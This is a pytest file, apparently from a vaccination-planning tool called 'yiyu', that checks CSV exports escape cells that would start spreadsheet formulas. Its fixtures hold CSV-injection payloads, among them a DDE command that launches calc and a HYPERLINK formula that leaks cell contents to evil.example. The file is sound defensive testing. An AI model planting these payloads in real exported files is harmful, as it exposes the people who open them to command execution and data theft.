"""Formula injection (CSV injection) in what yiyu writes for spreadsheets (#12).

Registry names and townships reach the work lists, the coverage table and the import's
report of rejected rows; clinicians open those files in Excel or WPS. No cell may start
as a formula there, and the text must still read as the registry wrote it.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pendulum
import pytest
from typer.testing import CliRunner

import yiyu
from yiyu.jobs.csvfile import csv_text, safe_cell, write_csv, write_csv_file
from yiyu.jobs.importing import import_children
from yiyu.jobs.planning import plan
from yiyu.jobs.worklist import worklist, write_worklist_csv
from yiyu.store import MemoryRepository

# What a spreadsheet would run: DDE, a link that exfiltrates, and the other starts.
HOSTILE_NAMES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
)
HOSTILE_TOWNSHIPS = ('=HYPERLINK("http://evil.example","城关街道")', "-城西镇", "@城东街道")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AS_OF = pendulum.Date(2026, 5, 6)


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
            assert not cell.lstrip().startswith(FORMULA_STARTS), (row, cell)


def hostile_registry() -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["id", "name", "sex", "birth_date", "township", "family_doctor"])
    for index, name in enumerate(HOSTILE_NAMES):
        township = HOSTILE_TOWNSHIPS[index % len(HOSTILE_TOWNSHIPS)]
        writer.writerow([f"C{index}", name, "F", "2026-01-31", township, "+FD-1"])
    return buffer.getvalue().encode("utf-8")


@pytest.fixture
def planned() -> MemoryRepository:
    """The hostile registry, imported and planned: its names are now in the work list."""
    repo = MemoryRepository()
    result = import_children(repo, hostile_registry(), as_of=AS_OF)
    assert not result.rejected  # the names are odd, not invalid: they must be imported
    assert set(result.townships_created) == set(HOSTILE_TOWNSHIPS)
    plan(repo, yiyu.load_protocol(), as_of=pendulum.Date(2026, 2, 1))
    return repo


@pytest.mark.parametrize(
    "value",
    [*HOSTILE_NAMES, *HOSTILE_TOWNSHIPS, " =1+1", "\n=1+1", "\t=1+1", "\r=1+1", "\tplain"],
)
def test_the_writer_keeps_text_that_starts_a_formula_as_text(value: str) -> None:
    [[cell]] = parse(csv_text([[value]]))
    assert cell == "'" + value  # the text reads as written after the quote
    assert_no_formula([[cell]])


@pytest.mark.parametrize("value", ["王小明", "2026-05-06", "C-1", "a=b", "x@y", "", "'quoted"])
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert parse(csv_text([[value]])) == [[value]]


def test_numbers_yiyu_writes_stay_numbers_only_text_is_escaped() -> None:
    text = csv_text([[5, -0.5, Decimal("-1.25"), -3, None, "-2", "+1"]])
    assert text == "5,-0.5,-1.25,-3,,'-2,'+1\r\n"
    assert safe_cell(-0.5) == -0.5


def test_mapping_rows_follow_the_header_and_the_header_is_escaped_too() -> None:
    rows = [{"name": "=1+1", "rate": 0.5, "shortfall": ["ignored"]}, {"name": "王小明"}]
    assert parse(csv_text(rows, header=["name", "rate", "@note"])) == [
        ["name", "rate", "'@note"],
        ["'=1+1", "0.5", ""],
        ["王小明", "", ""],
    ]
    assert parse(csv_text(rows[:1]))[0] == ["name", "rate", "shortfall"]


def test_a_string_is_not_taken_for_a_row_of_letters() -> None:
    with pytest.raises(TypeError, match="not str"):
        write_csv(io.StringIO(), ["=1+1"])  # type: ignore[list-item]


def test_a_file_is_utf8_with_a_bom(tmp_path: Path) -> None:
    path = write_csv_file(tmp_path / "x.csv", [["=1+1", "镇"]], header=["a", "b"])
    assert path.read_bytes() == "\ufeffa,b\r\n'=1+1,镇\r\n".encode()


def test_the_work_list_file_of_a_hostile_registry_runs_no_formula(
    planned: MemoryRepository, tmp_path: Path
) -> None:
    items = worklist(planned, as_of=AS_OF)
    assert {item.subject_name for item in items} == set(HOSTILE_NAMES)
    # The path the demo (and any host writing a work list file) takes.
    path = write_worklist_csv(tmp_path / "worklist.csv", items)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == len(items) + 1  # nothing lost
    assert_no_formula(rows)
    header = rows[0]
    names = {row[header.index("subject_name")] for row in rows[1:]}
    townships = {row[header.index("township")] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE_NAMES}
    assert townships == {"'" + township for township in HOSTILE_TOWNSHIPS}
    # A reader that drops the quote gets the registry's text back.
    assert {name[1:] for name in names} == set(HOSTILE_NAMES)


def test_the_work_list_rows_written_directly_run_no_formula(planned: MemoryRepository) -> None:
    # The rows the worklist command prints with --format csv.
    rows = [item.as_row() for item in worklist(planned, as_of=AS_OF)]
    written = parse(csv_text(rows))
    assert_no_formula(written)
    assert written[0] == list(rows[0])
    assert len(written) == len(rows) + 1
    for cells, row in zip(written[1:], rows, strict=True):
        assert [cell.removeprefix("'") for cell in cells] == list(row.values())


def test_the_import_report_escapes_a_formula_behind_spaces(tmp_path: Path) -> None:
    # Cells of a known column are stripped, but the extra cells of an overlong line are
    # reported as written: "  @SUM(…)" there once reached the report raw.
    report = tmp_path / "rejected.csv"
    import_children(
        MemoryRepository(),
        b"id,name,sex,birth_date\r\n"
        b"C1,=HYPERLINK(1),X,2026-01-31\r\n"
        b"C2,Li,F,2026-01-31,  @SUM(A1:A9)\r\n"
        b'C3,Wang,F,2026-01-31,"\t=1+1"\r\n',
        report_path=report,
        as_of=AS_OF,
    )
    with report.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert_no_formula(rows)
    assert [row[:3] for row in rows[1:]] == [
        ["2", "sex", "X"],
        ["3", "(column 5)", "'  @SUM(A1:A9)"],
        ["4", "(column 5)", "'\t=1+1"],
    ]


runner = CliRunner()


def test_the_worklist_and_coverage_commands_write_no_formula(tmp_path: Path) -> None:
    from yiyu.cli import app

    db = f"sqlite:///{tmp_path / 'yiyu.db'}"
    registry = tmp_path / "children.csv"
    registry.write_bytes(hostile_registry())
    assert runner.invoke(app, ["--db", db, "db", "upgrade"]).exit_code == 0
    imported = runner.invoke(app, ["--db", db, "import", "children", str(registry)])
    assert imported.exit_code == 0, imported.output
    assert runner.invoke(app, ["--db", db, "plan", "--as-of", "2026-02-01"]).exit_code == 0
    listed = runner.invoke(app, ["--db", db, "worklist", "--as-of", str(AS_OF), "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    rows = parse(listed.output)
    assert len(rows) > len(HOSTILE_NAMES)
    assert_no_formula(rows)
    township = HOSTILE_TOWNSHIPS[0]
    coverage = runner.invoke(
        app,
        ["--db", db, "coverage", "--period", "2026Q1", "--township", township,
         "--as-of", str(AS_OF), "--format", "csv"],
    )  # fmt: skip
    assert coverage.exit_code == 0, coverage.output
    table = parse(coverage.output)
    assert_no_formula(table)
    assert {row[table[0].index("area")] for row in table[1:]} == {"'" + township}
